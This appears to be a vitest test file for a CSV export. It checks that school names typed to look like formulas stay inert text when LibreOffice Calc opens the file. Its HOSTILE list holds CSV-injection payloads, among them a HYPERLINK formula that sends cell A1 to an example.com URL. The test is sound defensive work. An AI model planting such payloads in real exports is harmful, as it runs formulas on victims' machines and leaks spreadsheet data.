/**
 * The CSV export opened in LibreOffice Calc (Debian `libreoffice-calc`), as a coordinator opens it:
 * school names a curator typed to look like formulas must stay text. Unguarded, Calc's CSV import runs
 * `=1+1` as a live formula (checked by hand: its cell is saved as `<f>1+1</f>`); OWASP's "CSV Injection"
 * page (https://owasp.org/www-community/attacks/CSV_Injection) recommends the leading apostrophe this
 * export writes (docs/analytics.md#csv-and-formulas).
 */
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { writeLongCsv } from '../../../src/cli/files/long-csv-file';
import type { LongRow } from '../../../src/core/long-format/long-row';
import { XLSX_LIMITS } from '../../../src/xlsx/xlsx-limits';
import { zipEntries } from '../../../src/xlsx/zip-entries';

const HOSTILE = [
  '=HYPERLINK("http://example.com/?"&A1;"x")',
  '+1+2',
  '-1+2',
  '@SUM(1;1)',
  '\t=1+1',
  '\r=1+1',
  "'=1+1",
];

const row = (school: string, value: number): LongRow => ({
  period: '2025/2026',
  region: '',
  municipality: '=1+1',
  level: 'school',
  school,
  indicator_id: 'mentors',
  indicator_code: '1.2',
  indicator_title: 'Количество наставников',
  type: 'count',
  value,
  numerator: null,
  denominator: null,
  schools_counted: null,
  target: null,
  met: null,
  status: 'counted',
});

const dir = mkdtempSync(join(tmpdir(), 'cmn-csv-formulas-'));
let sheetXml = '';
let strings = '';

beforeAll(async () => {
  await writeLongCsv(
    join(dir, 'export.csv'),
    HOSTILE.map((school, i) => row(school, -i - 1)),
  );
  execFileSync(
    'soffice',
    [
      `-env:UserInstallation=file://${join(dir, 'profile')}`,
      '--headless',
      // Comma, double quote, UTF-8 (76), from line 1: how Calc reads the export by default.
      '--infilter=CSV:44,34,76,1',
      '--convert-to',
      'xlsx',
      '--outdir',
      dir,
      join(dir, 'export.csv'),
    ],
    { stdio: 'ignore', timeout: 120_000 },
  );
  const entries = zipEntries(readFileSync(join(dir, 'export.xlsx')));
  const text = (name: string) =>
    entries
      .find((entry) => entry.name === name)
      ?.bytes(XLSX_LIMITS.unpackedBytes)
      .toString('utf8') ?? '';
  sheetXml = text('xl/worksheets/sheet1.xml');
  strings = text('xl/sharedStrings.xml');
}, 180_000);

afterAll(() => rmSync(dir, { recursive: true, force: true }));

describe('the CSV export opened in LibreOffice Calc', () => {
  it('has no formula in any cell', () => {
    expect(sheetXml).toContain('<sheetData>');
    expect(sheetXml).not.toMatch(/<f[ >]/);
  });

  it('shows each typed text after its guard, and the numbers as numbers', () => {
    for (const school of ['=HYPERLINK', '+1+2', '-1+2', '@SUM(1;1)'])
      expect(strings).toContain(`&apos;${school}`);
    expect(sheetXml).toMatch(/<c r="J2"[^>]*t="n"[^>]*><v>-1<\/v>/);
  });
});
